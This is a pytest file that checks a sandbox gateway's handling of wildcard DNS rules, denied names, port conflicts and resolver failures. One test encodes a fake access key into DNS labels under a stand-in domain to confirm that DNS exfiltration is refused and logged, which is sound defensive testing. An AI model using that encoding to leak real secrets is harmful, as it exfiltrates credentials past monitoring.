"""Names under a wildcard, through a real gateway: they are found when they are first asked for."""

from __future__ import annotations

import os
import socket
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from paddock.gateway.outside import dial, guard
from paddock.gateway.outside.dial import Address
from paddock.plan.model import Denied, Rule
from paddock.policy.model import Origin

if TYPE_CHECKING:
    from tests.gateway.conftest import Allow, Sandbox, Upstreams

ORIGIN = Origin("flag", "--allow")


@pytest.fixture(autouse=True)
def to_the_services(monkeypatch: pytest.MonkeyPatch, upstreams: Upstreams) -> None:
    """Every name leads to a service of the host, as one on a private address would."""

    def resolve(_: str, port: int) -> list[Address]:
        return [Address(socket.AF_INET, ("127.0.0.1", upstreams.http if port in (80, 8080) else upstreams.tls))]

    monkeypatch.setattr(dial, "resolve", resolve)
    monkeypatch.setattr(guard, "refusal", lambda *_, **__: "")


def test_each_name_is_reached_at_every_port_of_its_rules(sandbox: Sandbox, allow: Allow) -> None:
    allow(Rule("*.example.test", 80, ORIGIN), Rule("*.example.test", 8080, ORIGIN))
    code = """
for url in ("http://a.example.test/big/1", "http://b.c.example.test:8080/big/1", "http://a.example.test:8080/big/1"):
    print(urlopen(url, timeout=20).status)
print(socket.gethostbyname("a.example.test") != socket.gethostbyname("b.c.example.test"))
"""
    assert sandbox.python(code).split() == ["200", "200", "200", "True"]
    assert {line["name"] for line in allow.lines() if line["kind"] == "connect"} == {
        "a.example.test",
        "b.c.example.test",
    }


def test_what_is_denied_under_it_stays_unknown(sandbox: Sandbox, allow: Allow) -> None:
    allow(Rule("*.example.test", 80, ORIGIN), denied=(Denied("*.ads.example.test", 0, ORIGIN),))
    code = """
for name in ("a.ads.example.test", "example.test", "ads.example.test"):
    try: print(bool(socket.gethostbyname(name)))
    except OSError: print("unknown")
"""
    assert sandbox.python(code).split() == ["unknown", "unknown", "True"]
    assert allow.wait_for(name="a.ads.example.test", kind="dns")["reason"] == "denied"


def test_data_in_labels_is_not_answered_and_recorded(sandbox: Sandbox, allow: Allow) -> None:
    allow(Rule("*.example.test", 443, ORIGIN))
    code = """
import base64
secret = b"AKIAEXAMPLEKEYID/with-a-secret-beside-it"
for label in (secret.hex(), base64.b32encode(secret).decode().strip("=").lower()):
    name = ".".join(label[at:at + 60] for at in range(0, len(label), 60)) + ".example.test"
    try: print(socket.gethostbyname(name))
    except OSError: print("unknown")
"""
    assert sandbox.python(code).split() == ["unknown", "unknown"]
    assert allow.wait_for(kind="dns", reason="name-like-data")["verdict"] == "refused"


def test_a_port_that_a_program_inside_has_taken_everywhere_is_named(sandbox: Sandbox, allow: Allow) -> None:
    allow(Rule("*.example.test", 18080, ORIGIN), Rule("*.other.test", 80, ORIGIN))
    code = """
with socket.create_server(("0.0.0.0", 18080)):
    try: print(socket.gethostbyname("a.example.test"))
    except OSError: print("unknown")
    print(bool(socket.gethostbyname("a.other.test")))
print(bool(socket.gethostbyname("a.example.test")))
"""
    assert sandbox.python(code).split() == ["unknown", "True", "True"]
    assert allow.wait_for(kind="dns", name="a.example.test")["reason"] == "inside-port-taken"


def test_without_the_maker_new_names_fail_and_known_ones_live_on(sandbox: Sandbox, allow: Allow) -> None:
    gateway = allow(Rule("*.example.test", 80, ORIGIN), Rule("exact.test", 80, ORIGIN))
    children = Path(f"/proc/{gateway.pid}/task/{gateway.pid}/children").read_text("ascii").split()
    for pid in children:
        os.kill(int(pid), 9)
    code = """
print(bool(socket.gethostbyname("exact.test")))
try: print(socket.gethostbyname("new.example.test"))
except OSError: print("unknown")
"""
    assert len(children) == 1
    assert sandbox.python(code).split() == ["True", "unknown"]
    assert allow.wait_for(kind="dns", name="new.example.test")["reason"] == "failed"


def test_hundreds_of_names_at_once_are_bounded_and_the_rest_lives_on(sandbox: Sandbox, allow: Allow) -> None:
    allow(Rule("*.example.test", 80, ORIGIN), Rule("exact.test", 80, ORIGIN))
    code = """
found = 0
for number in range(400):
    try: found += bool(socket.gethostbyname(f"host{number}.example.test"))
    except OSError: pass
print(found, bool(socket.gethostbyname("exact.test")))
"""
    assert sandbox.python(code).split() == ["256", "True"]
